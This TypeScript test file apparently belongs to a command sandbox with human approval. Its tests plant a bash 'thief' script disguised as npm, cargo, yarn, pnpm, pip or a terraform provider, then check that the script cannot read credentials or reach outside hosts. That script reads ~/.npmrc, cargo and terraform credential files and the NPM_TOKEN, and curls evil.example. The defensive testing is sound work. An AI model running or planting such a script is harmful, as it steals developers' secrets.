import assert from "node:assert/strict";
import { chmodSync, existsSync, mkdirSync, mkdtempSync, realpathSync, rmSync, writeFileSync } from "node:fs";
import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import { homedir } from "node:os";
import { join } from "node:path";
import { type TestContext, test } from "node:test";
import { type Serving, startServing } from "../support/serve-fixture.ts";

const SECRET = "s3cr3t-of-the-login";

interface Scene extends Serving {
  /** What arrived at a real server of this machine: request lines with their `Authorization`. */
  readonly arrived: readonly string[];
  readonly address: string;
  readonly userHome: string;
}

/** A jailed hub with a home of its own that holds logins, and a server on the loopback that nobody should reach. */
async function open(t: TestContext, programs: Readonly<Record<string, string>> = {}): Promise<Scene | undefined> {
  // Not below /tmp: what others may write is no trusted PATH. Root's home is closed to the user that runs become.
  const base = realpathSync(mkdtempSync(join(process.getuid?.() === 0 ? "/var/lib" : homedir(), "countersign-test-")));
  chmodSync(base, 0o755);
  t.after(() => rmSync(base, { recursive: true, force: true }));
  const userHome = join(base, "user");
  const bin = join(base, "bin");
  for (const directory of [userHome, bin]) mkdirSync(directory, { mode: 0o755 });
  for (const [name, text] of Object.entries(programs)) writeFileSync(join(bin, name), text, { mode: 0o755 });
  const arrived: string[] = [];
  const server = createServer(({ method, url, headers }, response) => {
    arrived.push(`${method} ${url} ${headers.authorization ?? ""}`);
    response.end("{}");
  });
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  t.after(() => server.close());
  const env = { HOME: userHome, PATH: `${bin}:${process.env.PATH}`, NPM_TOKEN: SECRET };
  const before = Object.fromEntries(Object.keys(env).map((name) => [name, process.env[name]]));
  Object.assign(process.env, env);
  t.after(() => {
    for (const [name, value] of Object.entries(before)) {
      if (value === undefined) delete process.env[name];
      else process.env[name] = value;
    }
  });
  const s = await startServing(t, { profile: { timeoutMs: 600_000 } });
  const { warnings } = (await s.call("/api/v1/state")).body;
  const problem = warnings.find((text: string) => text.startsWith("Commands run without a jail"));
  if (problem !== undefined) {
    t.skip(problem);
    return undefined;
  }
  const { port } = server.address() as AddressInfo;
  return Object.assign(s, { arrived, address: `http://127.0.0.1:${port}`, userHome });
}

/** Says how much of each login it can read, as what it reads would be hidden, and tries the server and another host. */
const THIEF = (address: string) => `#!/bin/bash
echo "thief ran: $(cat ~/.npmrc ~/.cargo/credentials.toml ~/.terraform.d/credentials.tfrc.json 2>/dev/null | wc -c) of files, \${#NPM_TOKEN} of the token"
curl -s --max-time 5 "${address}/stolen"
curl -s --max-time 5 https://evil.example/stolen
touch ran 2>/dev/null
exit 0
`;
/** The card of this proposal, which fails here if nobody is asked about it. */
function askedAbout(s: Scene, running: ReturnType<Scene["propose"]>) {
  const unasked = running.then(({ body }) => assert.fail(`nobody was asked: ${JSON.stringify(body)}`));
  return Promise.race([s.asked(), unasked]);
}

const NOTHING_READ = /thief ran: 0 of files, 0 of the token\n/;

test("npm asks its registry alone, and without the login, whatever .npmrc says", async (t) => {
  const s = await open(t);
  if (!s) return;
  writeFileSync(join(s.userHome, ".npmrc"), `//registry.npmjs.org/:_authToken=${SECRET}\n`);
  const host = s.address.replace("http:", "");
  const settings = [
    `registry=${s.address}/`,
    `${host}/:_authToken=\${NPM_TOKEN}`,
    "fetch-retries=0",
    "update-notifier=false",
  ];
  writeFileSync(join(s.workspace, ".npmrc"), `${settings.join("\n")}\n`);
  for (const command of ["npm view react version", "npm ping"]) {
    const { body } = await s.propose(command);
    assert.notEqual(body.exitCode, 0, JSON.stringify(body));
    assert.equal(body.kind, "exited", `it ran, and nobody was asked: ${JSON.stringify(body)}`);
    assert.doesNotMatch(body.stdout + body.stderr, new RegExp(SECRET));
  }
  assert.deepEqual(s.arrived, []);
});

test("no registry's login is lent to npm, and it reaches no other host", async (t) => {
  // Stands for npm, which goes where .npmrc says.
  const s = await open(t, { npm: "#!/bin/bash\nexec bash ./thief.sh\n" });
  if (!s) return;
  writeFileSync(join(s.userHome, ".npmrc"), `//registry.npmjs.org/:_authToken=${SECRET}\n`);
  writeFileSync(join(s.workspace, "thief.sh"), THIEF(s.address));
  const { body } = await s.propose("npm view react");
  assert.match(body.stdout, NOTHING_READ, JSON.stringify(body));
  assert.match(JSON.stringify(body), /evil\.example/, "what was refused is told");
  assert.deepEqual(s.arrived, []);
});

test("cargo search asks where a toolchain file names another cargo, which gets no login", async (t) => {
  // Stands for rustup's cargo, which runs the cargo of the toolchain that the file names.
  const cargo = '#!/bin/bash\nexec "$(sed -n \'s/^path = "\\(.*\\)"/\\1/p\' rust-toolchain.toml)/bin/cargo" "$@"\n';
  const s = await open(t, { cargo });
  if (!s) return;
  mkdirSync(join(s.userHome, ".cargo"));
  writeFileSync(join(s.userHome, ".cargo/credentials.toml"), `token = "${SECRET}"\n`);
  mkdirSync(join(s.workspace, "toolchain/bin"), { recursive: true });
  writeFileSync(join(s.workspace, "rust-toolchain.toml"), '[toolchain]\npath = "toolchain"\n');
  writeFileSync(join(s.workspace, "toolchain/bin/cargo"), THIEF(s.address), { mode: 0o755 });
  for (const command of ["cargo search serde", "cargo info serde", "cargo tree; cargo search serde"]) {
    const running = s.propose(command);
    const { approvalId, riskReasons, network, lends } = await askedAbout(s, running);
    assert.equal(riskReasons[0], "Runs what rust-toolchain.toml names, with the network", command);
    assert.deepEqual(network, ["crates.io", "index.crates.io", "static.crates.io"]);
    assert.deepEqual(lends, []);
    await s.decide(approvalId, "allow-once");
    const { body } = await running;
    assert.match(body.stdout, NOTHING_READ, JSON.stringify(body));
  }
  const alone = await s.propose("cargo metadata");
  assert.match(alone.body.stdout, NOTHING_READ, "without the network it runs in a jail, and nobody is asked");
  assert.deepEqual(s.arrived, []);
});

test("yarn and pnpm ask where they run files of the project, which get no login and reach nothing", async (t) => {
  // Stand for yarn, which runs what .yarnrc.yml names, and for pnpm, which loads .pnpmfile.cjs.
  const yarn = '#!/bin/bash\nexec bash "$(sed -n "s/^yarnPath: //p" .yarnrc.yml)"\n';
  const pnpm = "#!/bin/bash\nexec bash ./.pnpmfile.cjs\n";
  const s = await open(t, { yarn, pnpm });
  if (!s) return;
  for (const name of [".npmrc", ".yarnrc.yml"])
    writeFileSync(join(s.userHome, name), `//registry.npmjs.org/:_authToken=${SECRET}\n`);
  writeFileSync(join(s.workspace, ".yarnrc.yml"), "yarnPath: .yarn-thief.sh\n");
  for (const name of [".yarn-thief.sh", ".pnpmfile.cjs"]) writeFileSync(join(s.workspace, name), THIEF(s.address));
  const all: [command: string, reason: string, hosts: string[]][] = [
    ["yarn info react", "Runs the yarn that .yarnrc.yml names", ["registry.npmjs.org", "registry.yarnpkg.com"]],
    ["yarn npm audit", "Runs the yarn that .yarnrc.yml names", ["registry.npmjs.org", "registry.yarnpkg.com"]],
    ["pnpm view react", "Runs what .pnpmfile.cjs and package.json name", ["registry.npmjs.org"]],
    ["pnpm outdated", "Runs what .pnpmfile.cjs and package.json name", ["registry.npmjs.org"]],
  ];
  for (const [command, reason, hosts] of all) {
    const running = s.propose(command);
    const { approvalId, riskReasons, network, lends } = await askedAbout(s, running);
    assert.equal(riskReasons[0], `${reason}, with the network`, command);
    assert.deepEqual(network.toSorted(), hosts, command);
    assert.deepEqual(lends, [], command);
    await s.decide(approvalId, "allow-once");
    const { body } = await running;
    assert.match(body.stdout, NOTHING_READ, JSON.stringify(body));
  }
  for (const command of ["yarn --version", "pnpm --version"]) {
    const { body } = await s.propose(command);
    assert.match(body.stdout, NOTHING_READ, `nobody is asked, it has nothing: ${JSON.stringify(body)}`);
  }
  assert.deepEqual(s.arrived, []);
});

test("a python module of the workspace runs without the network, or asks", async (t) => {
  const s = await open(t);
  if (!s) return;
  mkdirSync(join(s.workspace, "pip"));
  writeFileSync(join(s.workspace, "thief.sh"), THIEF(s.address));
  writeFileSync(join(s.workspace, "pip/__init__.py"), "");
  writeFileSync(join(s.workspace, "pip/__main__.py"), 'import subprocess\nsubprocess.run(["bash", "thief.sh"])\n');
  writeFileSync(join(s.userHome, ".npmrc"), `//registry.npmjs.org/:_authToken=${SECRET}\n`);
  const listed = await s.propose("python3 -m pip list");
  assert.match(listed.body.stdout, NOTHING_READ, JSON.stringify(listed.body));
  const running = s.propose("python3 -m pip index versions react");
  const { approvalId, lends } = await askedAbout(s, running);
  assert.deepEqual(lends, []);
  await s.decide(approvalId, "deny");
  await running;
  assert.deepEqual(s.arrived, []);
});

test("a provider in .terraform runs without the network and the login", async (t) => {
  // Stands for terraform, which starts the providers of the directory to be told their schema.
  const terraform = "#!/bin/bash\nexec .terraform/providers/evil/terraform-provider-evil\n";
  const s = await open(t, { terraform });
  if (!s) return;
  mkdirSync(join(s.userHome, ".terraform.d"));
  writeFileSync(join(s.userHome, ".terraform.d/credentials.tfrc.json"), `{"token": "${SECRET}"}\n`);
  const provider = join(s.workspace, ".terraform/providers/evil");
  mkdirSync(provider, { recursive: true });
  writeFileSync(join(provider, "terraform-provider-evil"), THIEF(s.address), { mode: 0o755 });
  const { body } = await s.propose("terraform state show aws_instance.web");
  assert.match(body.stdout, NOTHING_READ, JSON.stringify(body));
  assert(!existsSync(join(s.workspace, "ran")), "it could only read");
  assert.deepEqual(s.arrived, []);
});

test("a login goes to its service's hosts, and with no code of the workspace beside it", async (t) => {
  // Stands for gh: shows its login, and asks whom it is told.
  const gh = "#!/bin/bash\ncat ~/.config/gh/hosts.yml; curl -s --max-time 5 $(cat host); echo done\n";
  const s = await open(t, { gh });
  if (!s) return;
  mkdirSync(join(s.userHome, ".config/gh"), { recursive: true });
  writeFileSync(join(s.userHome, ".config/gh/hosts.yml"), "github.com:\n    user: me\n");
  writeFileSync(join(s.workspace, "host"), `${s.address}/x\n`);
  const { body } = await s.propose("gh pr list");
  assert.equal(body.stdout, "github.com:\n    user: me\ndone\n", JSON.stringify(body));
  writeFileSync(join(s.workspace, "thief.sh"), THIEF(s.address), { mode: 0o755 });
  for (const command of ["python3 -m json.tool host; gh pr list", "gh pr list && bash thief.sh"]) {
    const running = s.propose(command);
    const { approvalId, lends } = await askedAbout(s, running);
    assert.deepEqual(lends, [], command);
    await s.decide(approvalId, "deny");
    await running;
  }
  assert.deepEqual(s.arrived, []);
});
